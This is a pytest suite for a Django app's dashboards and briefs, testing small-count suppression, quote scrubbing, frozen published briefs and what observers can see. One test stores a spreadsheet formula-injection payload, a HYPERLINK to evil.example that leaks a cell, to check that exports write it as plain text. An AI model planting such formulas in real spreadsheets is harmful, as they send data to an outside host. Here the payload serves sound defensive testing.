"""Dashboards and briefs: figures below k suppressed everywhere (page, chart, PDF, XLSX, API), quotes only with
consent and scrubbed, a published brief frozen, observers seeing aggregates and published briefs only."""

import base64
import datetime
import io
import json
import re
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import formats, timezone, translation
from openpyxl import load_workbook

from grappe.core import aggregates, charts
from grappe.core.models import Notification
from grappe.listening import documents
from grappe.listening.models import Brief, Need, SurveyStatus, Theme, ThemeAssignment
from grappe.listening.selectors import briefs as brief_selectors
from grappe.listening.selectors import dashboards
from grappe.listening.selectors import themes as theme_selectors
from grappe.listening.services import briefs as brief_services
from grappe.listening.services import needs as need_services
from grappe.listening.services import themes as theme_services
from grappe.members.models import Segment

from .insights_data import answered_survey, crowd

pytestmark = pytest.mark.django_db


@pytest.fixture
def made(staff, django_capture_on_commit_callbacks):
    organisations = crowd(staff)
    with django_capture_on_commit_callbacks(execute=True):
        theme_services.start_run(actor=staff)
    return organisations


def period():
    today = timezone.localdate()
    return today.replace(day=1).replace(year=today.year - 1), today


# Dashboards ---------------------------------------------------------------------------------------------------

def test_survey_results_suppress_choices_below_k(made, staff):
    survey = answered_survey(staff, made, answering=7)
    results = dashboards.survey_results(survey)
    likert, single, number = results["questions"]
    assert results["rate"]["submitted"].organisations == 7 and results["rate"]["invited"].organisations == 12
    # Seven organisations spread over five points: no point reaches five organisations, all hidden.
    assert all(bar["cell"].suppressed for bar in likert["bars"])
    # Beside hidden counts, the mean would be an equation on them: hidden too, saying why.
    assert likert["mean"].suppressed and likert["mean"].mean is None and likert["mean"].reason
    # "oui" 5, "non" 2: the two would be the total minus the five, so both are hidden.
    assert [bar["cell"].suppressed for bar in single["bars"]] == [True, True]
    assert number["mean"].mean == pytest.approx(sum(10 + i for i in range(7)) / 7)


def test_a_response_rate_whose_remainder_is_below_k_is_hidden(made, staff):
    """Nine of twelve answered: the three who did not would be the invited minus the answered."""
    rate = dashboards.survey_rate(answered_survey(staff, made, answering=9))
    assert rate["submitted"].suppressed and rate["invited"].organisations == 12


def test_a_survey_fewer_than_k_answered_shows_no_rate(made, staff, client):
    survey = answered_survey(staff, made, answering=3)
    rate = dashboards.survey_rate(survey)
    assert rate["submitted"].suppressed
    client.force_login(staff)
    html = client.get(reverse("listening:dashboard-survey", args=[survey.pk])).content.decode()
    assert "&lt; 5" in html and "Réponse confidentielle" not in html


def test_dashboard_counts_by_category_and_theme_and_draws_charts_without_inline_style(made, staff, observer, client):
    client.force_login(observer)
    response = client.get(reverse("listening:dashboard"))
    html = response.content.decode()
    assert response.status_code == 200
    assert 'class="grappe-chart"' in html and "data:image/svg+xml" in html
    assert "style=" not in html and "<script" not in html.split("</head>")[1]
    overview = dashboards.overview(dashboards.OBSERVER)
    workforce = overview["categories"]["bars"][0]
    # Organisation 9 keeps all its needs for the staff: observers' figures do not count it.
    assert workforce["key"] == "workforce" and workforce["cell"].organisations == 11
    assert dashboards.overview(dashboards.STAFF)["categories"]["bars"][0]["cell"].organisations == 12
    assert overview["themes"]["lines"], "themes over time"


def test_observers_never_count_staff_only_needs(made, staff):
    staff_view = dashboards.overview(dashboards.STAFF)
    observer_view = dashboards.overview(dashboards.OBSERVER)
    assert staff_view["categories"]["total"].items > observer_view["categories"]["total"].items
    assert observer_view["categories"]["total"].items == Need.objects.exclude(visibility="staff").filter(
        created_at__date__gte=observer_view["months"][0] + "-01",
        created_at__date__lte=dashboards.shown_until(dashboards.OBSERVER)).count()


def test_the_cache_is_renewed_by_a_new_need(made, staff, django_capture_on_commit_callbacks):
    before = dashboards.overview(dashboards.STAFF)["categories"]["total"].items
    org, user = made[0]
    with django_capture_on_commit_callbacks(execute=True):
        need_services.submit_need(actor=user, organisation=org, category="export", text="Encore les tarifs",
                                  language="fr", urgency="low", visibility="anonymous")
    assert dashboards.overview(dashboards.STAFF)["categories"]["total"].items == before + 1


def test_segments_are_admitted_or_refused_with_the_reason(made, staff, observer):
    for i, (org, _user) in enumerate(made):
        org.region = "02" if i < 3 else "01" if i < 8 else "06"
        org.save()
    Segment.objects.create(name="Trois", regions=["02"])
    five = Segment.objects.create(name="Cinq", regions=["01"])
    shown = {s["name"]: s for s in dashboards.admitted_segments(dashboards.OBSERVER)}
    assert "refused" in shown["Trois"] and "bars" not in shown["Trois"] and "total" not in shown["Trois"]
    assert shown["Cinq"]["total"].organisations == 5 and "population" not in shown["Cinq"]
    assert shown["Cinq"]["id"] == five.pk
    # Nearly everyone: the few left out could be worked out from the cluster's figures.
    Segment.objects.create(name="Presque tous", regions=["01", "06"])
    shown = {s["name"]: s for s in dashboards.admitted_segments(dashboards.OBSERVER)}
    assert "refused" in shown["Presque tous"]


def test_a_segment_refused_after_a_small_change_says_when_it_returns_and_returns_then(made):
    for i, (org, _user) in enumerate(made):
        org.region = "01" if i < 6 else "06"
        org.save()
    Segment.objects.create(name="Six", regions=["01"])
    today = timezone.localdate()
    assert "bars" in dashboards.admitted_segments(dashboards.OBSERVER, today)[0]
    leaving = made[0][0]
    leaving.region = "06"
    leaving.save()  # five left: enough alone, but the one who left would be the difference
    # The figures shown end with last month: they return when the twelve months shown all come after it.
    returns = dashboards.first_of_month(today, dashboards.MONTHS)
    with translation.override("en"):
        refused = dashboards.admitted_segments(dashboards.OBSERVER, today)[0]
        assert "bars" not in refused and "return on" in refused["refused"]
        assert formats.date_format(returns, "SHORT_DATE_FORMAT") in refused["refused"]
    assert "refused" in dashboards.admitted_segments(dashboards.OBSERVER, returns - datetime.timedelta(days=1))[0]
    again = dashboards.admitted_segments(dashboards.OBSERVER, returns)[0]
    assert "refused" not in again and again["members"] == 5


def test_charts_leave_suppressed_cells_undrawn_with_less_than_k():
    shown = aggregates.Cell(key="a", suppressed=False, organisations=12, items=30)
    hidden = aggregates.Cell(key="b", suppressed=True)
    svg = charts.bar_chart([{"label": "Export <b>", "cell": shown}, {"label": "Autre", "cell": hidden}],
                           k=5, title="Titre")
    drawn = drawings(svg)
    assert "Autre: &lt; 5" in svg and "Export &lt;b&gt;: 12" in svg and "style=" not in svg
    assert all(d.count('class="rect reactive') == 1 and ">Autre<" in d and 'class="value">&lt; 5<' in d
               and "Export &lt;b&gt;" in d for d in drawn)
    line = charts.line_chart([{"name": "T", "cells": [shown, hidden, shown]}], ["2026-01", "2026-02", "2026-03"],
                             k=5, title="T")
    assert all(d.count("line reactive nofill") == 0 and d.count("<circle") == 2 for d in drawings(line))
    assert "2026-02 &lt; 5" in line


def drawings(html: str) -> list[str]:
    """The SVG a chart's picture shows, narrow and wide."""
    return [base64.b64decode(uri).decode()
            for uri in re.findall(r"data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)", html)]


# Briefs -------------------------------------------------------------------------------------------------------

def test_scrubbing_removes_names_emails_phones_and_addresses(made):
    scrubber = brief_selectors.Scrubber()
    org, _user = made[3]
    text = ("Chez Usinage Delta 03, Gaston03 Lapointe (gaston@delta.test, 514 555-0103, www.delta.test) dit que "
            "Gaston03 manque 2 000 000 $ pour 40 semaines.")
    clean = scrubber.scrub(text, organisation_id=org.pk)
    for leak in ("Delta 03", "Gaston", "Lapointe", "@", "555", "www"):
        assert leak not in clean
    assert "2 000 000 $" in clean and "40 semaines" in clean


def test_one_click_makes_the_brief_with_figures_quotes_and_files(made, staff, client):
    answered_survey(staff, made, answering=7)
    start, end = period()
    client.force_login(staff)
    response = client.post(reverse("listening:brief-create"),
                           {"period_start": start.isoformat(), "period_end": end.isoformat(), "language": "en"})
    brief = Brief.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("listening:brief-detail", args=[brief.pk])
    figures = brief.figures
    assert figures["k"] == 5 and figures["surveys"][0]["submitted"] == {
        "suppressed": False, "organisations": 7, "items": 7, "mean": None, "share": 0.5833}
    quotes = [q for line in figures["themes"]["lines"] for q in line["quotes"]]
    assert quotes, "named needs of themes raised by at least k organisations are quoted"
    assert not any(re.search(r"Gaston|Lapointe|555|Delta", q) for q in quotes)
    # Only 'named' needs are quoted: organisations 0-6 wrote them.
    named_texts = {n.text.split(" (")[0] for n in Need.objects.filter(visibility="named")}
    assert all(q.split(" (")[0].rstrip(" […])") in {t.rstrip(".") for t in named_texts} or
               any(q.startswith(t[:30]) for t in named_texts) for q in quotes)

    client.post(reverse("listening:brief-detail", args=[brief.pk]), {"recommendations": "Fund training.\nAct now."})
    xlsx = client.get(reverse("listening:brief-xlsx", args=[brief.pk]))
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.content))
    assert book.sheetnames == ["Summary", "Response rates", "Themes", "Segments", "Quotes", "Recommendations"]
    rates = list(book["Response rates"].values)
    assert rates[1] == ("Pulse", 12, 7, 58)
    assert [row[0] for row in book["Recommendations"].values] == ["Recommendations", "Fund training.", "Act now."]
    summary = {row[0]: row[1] for row in book["Summary"].values if row and row[0]}
    assert summary["Workforce"] == 11 and summary["Anonymity threshold (organisations)"] == 5

    pdf = client.get(reverse("listening:brief-pdf", args=[brief.pk]))
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    assert page_count(pdf.content) >= 1
    # Tagged for screen readers, in the brief's language.
    unpacked = pdf.content + b"".join(inflated(pdf.content))
    assert b"/StructTreeRoot" in unpacked and re.search(rb"/Lang\s*\(en\)", unpacked)
    html = documents.brief_html(Brief.objects.get(pk=brief.pk))
    assert "Pulse" in html and "Fund training." in html and "Réponse confidentielle" not in html


def inflated(pdf: bytes) -> list[bytes]:
    """The PDF's compressed streams, inflated (those that are not deflated are left out)."""
    found = []
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.S):
        try:
            found.append(zlib.decompress(stream))
        except zlib.error:
            pass
    return found


@pytest.mark.parametrize("days", [365, 730])
def test_the_brief_pdf_tables_fit_their_page(made, client, staff, days):
    """The themes table (a column per month, a table per year of them) and the segments table stay inside their
    page: no box of the rendered document runs past its page's right edge, over one year or two."""
    from weasyprint import HTML

    end = timezone.localdate()
    brief = brief_services.create_brief(actor=staff, period_start=end - datetime.timedelta(days=days),
                                        period_end=end, language="fr")
    document = HTML(string=documents.brief_html(brief)).render()

    def boxes(box):
        yield box
        for child in getattr(box, "children", []):
            yield from boxes(child)

    for page in document.pages:
        right = page._page_box.margin_width() - page._page_box.margin_right
        widest = max((b.position_x + b.margin_width() for b in boxes(page._page_box)
                      if type(b).__name__ in ("TableBox", "TableCellBox")), default=0)
        assert widest <= right + 0.5, f"a table runs {widest - right:.0f}px past the page"


def page_count(pdf: bytes) -> int:
    """Pages of a PDF from its bytes (objects of /Type /Page; WeasyPrint may compress them in streams)."""
    count = len(re.findall(rb"/Type\s*/Page(?!s)", pdf))
    if count:
        return count
    found = 0
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.S):
        try:
            found += len(re.findall(rb"/Type\s*/Page(?!s)", zlib.decompress(stream)))
        except zlib.error:
            continue
    return found


def test_a_brief_suppresses_what_fewer_than_k_organisations_said(made, staff):
    answered_survey(staff, made, answering=3)
    start, end = period()
    brief = brief_services.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
    assert brief.figures["surveys"][0]["submitted"] == {"suppressed": True}
    book = load_workbook(io.BytesIO(documents.render_brief_xlsx(brief)))
    rates = book.worksheets[1]
    assert list(rates.values)[1][2] == "< 5" and list(rates.values)[1][3] == "< 5"


def test_a_brief_workbook_writes_text_typed_as_a_formula_as_text(made, staff):
    leak = '=HYPERLINK("https://evil.example/?leak="&B3,"Click me")'
    start, end = period()
    brief = brief_services.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
    brief.recommendations = f"{leak}\n+Former la relève"
    brief.save()

    sheet = load_workbook(io.BytesIO(documents.render_brief_xlsx(brief)))["Recommandations"]

    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [(leak, "s", True),
                                                                      ("+Former la relève", "s", True)]


def test_quotes_need_k_organisations_in_the_theme(made, staff):
    theme = Theme.objects.create(name_fr="Petit", name_en="Small")
    now = timezone.now()
    for org, user in made[:3]:
        need = Need.objects.create(organisation=org, submitted_by=user, category="other", text="Un secret partagé",
                                   visibility="named", created_at=now)
        ThemeAssignment.objects.create(theme=theme, need=need, manual=True)
    start, end = period()
    assert brief_selectors.theme_quotes([theme.pk], start, end).get(theme.pk, []) == []


def test_a_published_brief_never_changes(made, staff, observer, client, django_capture_on_commit_callbacks):
    start, end = period()
    brief = brief_services.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
    client.force_login(observer)
    assert client.get(reverse("listening:brief-detail", args=[brief.pk])).status_code == 404
    assert client.get(reverse("listening:brief-pdf", args=[brief.pk])).status_code == 404
    with django_capture_on_commit_callbacks(execute=True):
        brief_services.publish_brief(actor=staff, brief=brief)
    brief.refresh_from_db()
    frozen_figures, frozen_pdf, frozen_xlsx = brief.figures, bytes(brief.pdf), bytes(brief.xlsx)
    org, user = made[0]
    Need.objects.create(organisation=org, submitted_by=user, category="export", text="Nouveau", visibility="named")
    with pytest.raises(ValidationError) as refused:
        brief_services.refresh_figures(actor=staff, brief=brief)
    assert refused.value.code == "published"
    with pytest.raises(ValidationError) as refused:
        brief_services.update_recommendations(actor=staff, brief=brief, recommendations="Autre chose")
    assert refused.value.code == "published"
    brief.refresh_from_db()
    assert brief.figures == frozen_figures
    assert client.get(reverse("listening:brief-pdf", args=[brief.pk])).content == frozen_pdf
    assert client.get(reverse("listening:brief-xlsx", args=[brief.pk])).content == frozen_xlsx
    assert Notification.objects.filter(user=observer, url=reverse("listening:brief-detail", args=[brief.pk])).exists()


# Observers ----------------------------------------------------------------------------------------------------

def test_an_observer_never_sees_a_staff_only_need_or_one_organisations_answer(made, staff, observer, client):
    survey = answered_survey(staff, made, answering=9, status=SurveyStatus.CLOSED)
    secret = Need.objects.filter(visibility="staff").first()
    secret.text = "SECRET-STAFF-ONLY texte du besoin"
    secret.save()
    start, end = period()
    brief = brief_services.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
    brief_services.publish_brief(actor=staff, brief=brief)
    client.force_login(observer)
    pages = [reverse("listening:dashboard"), reverse("listening:dashboard-survey", args=[survey.pk]),
             reverse("listening:brief-list"), reverse("listening:brief-detail", args=[brief.pk]),
             reverse("api:listening-dashboard"), reverse("api:listening-dashboard-survey", args=[survey.pk]),
             reverse("api:listening-brief-list"), reverse("api:listening-brief-detail", args=[brief.pk])]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        body = response.content.decode()
        assert "SECRET-STAFF-ONLY" not in body and "Réponse confidentielle" not in body, url
        assert "Usinage Delta" not in body and "delta-0" not in body, url
    xlsx = load_workbook(io.BytesIO(client.get(reverse("listening:brief-xlsx", args=[brief.pk])).content))
    cells = " ".join(str(v) for sheet in xlsx.worksheets for row in sheet.values for v in row if v is not None)
    assert "SECRET-STAFF-ONLY" not in cells and "Réponse confidentielle" not in cells and "Delta" not in cells
    for url in (reverse("listening:staff-need-list"), reverse("listening:staff-need-detail", args=[secret.pk]),
                reverse("listening:staff-survey-answers", args=[survey.pk]), reverse("listening:staff-theme-list"),
                reverse("api:listening-need-list")):
        assert client.get(url).status_code == 403, url  # the staff's pages: an observer may not read them


SECRET_WORDS = {"zirconoxyde", "frittage", "céramique", "ceramique", "prototype"}


def _secret_theme(made, staff, django_capture_on_commit_callbacks) -> Theme:
    """A theme found in staff-only needs of five organisations with a word of their own, into which the staff
    then move one anonymous need (so observers have a line for it)."""
    for org, user in made[:5]:
        Need.objects.create(organisation=org, submitted_by=user, category="innovation", visibility="staff",
                            text="Zirconoxyde : frittage de la céramique zirconoxyde, prototype zirconoxyde.")
    with django_capture_on_commit_callbacks(execute=True):
        theme_services.start_run(actor=staff)
    theme = ThemeAssignment.objects.filter(need__text__startswith="Zirconoxyde").first().theme
    assert "frittage" in theme.name_fr.lower()  # the staff's automatic name: the leak this guards against
    # In a finished month: the months observers see.
    visible = Need.objects.filter(visibility="anonymous",
                                  created_at__date__lte=dashboards.shown_until(dashboards.OBSERVER)).first()
    theme_services.reassign(actor=staff, need=visible, theme=theme)
    return theme


def test_observers_never_see_a_word_only_staff_only_needs_hold(made, staff, observer, client,
                                                                django_capture_on_commit_callbacks):
    theme = _secret_theme(made, staff, django_capture_on_commit_callbacks)
    start, end = period()
    brief = brief_services.publish_brief(actor=staff, brief=brief_services.create_brief(actor=staff, period_start=start,
                                                                          period_end=end, language="fr"))
    assert not SECRET_WORDS & set(re.findall(r"\w+", json.dumps(brief.figures, ensure_ascii=False).lower()))
    # The brief shows its top five themes by the same table as the observers' (here the others outnumber it):
    lines = {line["id"]: line["name"] for line in dashboards.theme_trend(
        brief_selectors.period_months(start, end), include_staff_only=False, top=0, since=start, until=end)["lines"]}
    assert str(theme.pk) in lines[theme.pk]
    client.force_login(observer)
    for url in (reverse("listening:dashboard"), reverse("api:listening-dashboard"),
                reverse("listening:brief-detail", args=[brief.pk]), reverse("api:listening-brief-detail",
                                                                            args=[brief.pk])):
        body = client.get(url).content.decode().lower()
        assert not SECRET_WORDS & set(re.findall(r"\w+", body)), url
    api_lines = {line["id"]: line["name"] for line in client.get(reverse("api:listening-dashboard")).json()
                 ["themes"]["lines"]}
    with translation.override(observer.language or "fr"):
        assert api_lines[theme.pk] == theme_selectors.public_name(theme) and str(theme.pk) in api_lines[theme.pk]
    xlsx = load_workbook(io.BytesIO(client.get(reverse("listening:brief-xlsx", args=[brief.pk])).content))
    cells = " ".join(str(v) for sheet in xlsx.worksheets for row in sheet.values for v in row if v is not None)
    assert not SECRET_WORDS & set(re.findall(r"\w+", cells.lower()))
    client.force_login(staff)  # the staff's own pages keep the words (the texts are theirs) and say what is shown
    assert "frittage" in client.get(reverse("listening:dashboard")).content.decode().lower()
    with translation.override(staff.language or "fr"):
        shown = theme_selectors.public_name(theme)
    assert shown in client.get(reverse("listening:staff-theme-detail", args=[theme.pk])).content.decode()


def test_outside_the_staff_a_theme_is_called_by_a_phrase_k_organisations_wrote_or_the_staff_name(made, staff):
    themes = list(Theme.objects.filter(is_active=True))
    k = aggregates.current_k()
    for theme in themes:
        assert theme.public_names
        for language, names in theme.public_names.items():
            assert all(organisations >= k for _phrase, organisations in names)
            with translation.override(language):
                assert theme_selectors.public_name(theme) == names[0][0]
    theme_services.rename_theme(actor=staff, theme=themes[0], name_fr="Tarifs américains", name_en="US tariffs")
    with translation.override("en"):
        assert theme_selectors.public_name(themes[0]) == "US tariffs"
        assert themes[0].pk in {line["id"] for line in dashboards.overview(dashboards.OBSERVER)["themes"]["lines"]
                                if line["name"] == "US tariffs"}


# API ----------------------------------------------------------------------------------------------------------

def test_api_dashboard_numbers_are_suppressed_below_k(made, staff, client):
    survey = answered_survey(staff, made, answering=7)
    client.force_login(staff)
    data = client.get(reverse("api:listening-dashboard-survey", args=[survey.pk])).json()
    likert = data["questions"][0]
    assert likert["bars"][0]["cell"]["suppressed"] is True and likert["bars"][0]["cell"]["organisations"] is None
    assert data["rate"]["submitted"]["organisations"] == 7
    overview = client.get(reverse("api:listening-dashboard")).json()
    assert overview["k"] == 5 and overview["categories"]["bars"][0]["cell"]["organisations"] == 12
    assert "population" not in json.dumps(overview)


def test_api_lists_published_briefs_to_observers_and_every_brief_to_staff(made, staff, observer, client):
    start, end = period()
    draft = brief_services.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
    published = brief_services.publish_brief(actor=staff, brief=brief_services.create_brief(
        actor=staff, period_start=start, period_end=end, language="en"))
    client.force_login(observer)
    assert [b["id"] for b in client.get(reverse("api:listening-brief-list")).json()] == [published.pk]
    assert client.get(reverse("api:listening-brief-detail", args=[draft.pk])).status_code == 404
    client.force_login(staff)
    assert {b["id"] for b in client.get(reverse("api:listening-brief-list")).json()} == {draft.pk, published.pk}


def test_openapi_documents_the_dashboard_and_brief_endpoints(client, staff):
    schema = client.get(reverse("api:openapi-json")).json()
    for path in ("/api/listening/dashboard", "/api/listening/dashboard/surveys/{survey_id}",
                 "/api/listening/briefs", "/api/listening/briefs/{brief_id}"):
        assert path in schema["paths"], path
